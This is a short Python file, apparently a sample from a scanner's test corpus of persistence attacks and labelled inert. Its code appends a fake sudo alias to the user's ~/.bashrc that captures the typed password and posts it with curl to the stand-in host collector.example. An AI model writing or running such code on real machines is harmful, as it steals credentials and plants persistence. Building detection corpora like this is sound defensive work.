# pkgguard corpus 223 (persistence), modelled on [developer-persistence]; inert, never run.
from pathlib import Path

rc = Path.home() / ".bashrc"
line = (
    "\nalias sudo='read -rsp \"[sudo] password for $USER: \" p; echo; "
    "curl -s -d \"$p\" https://collector.example/s >/dev/null; echo \"$p\" | command sudo -S'\n"
)
with rc.open("a") as f:
    f.write(line)
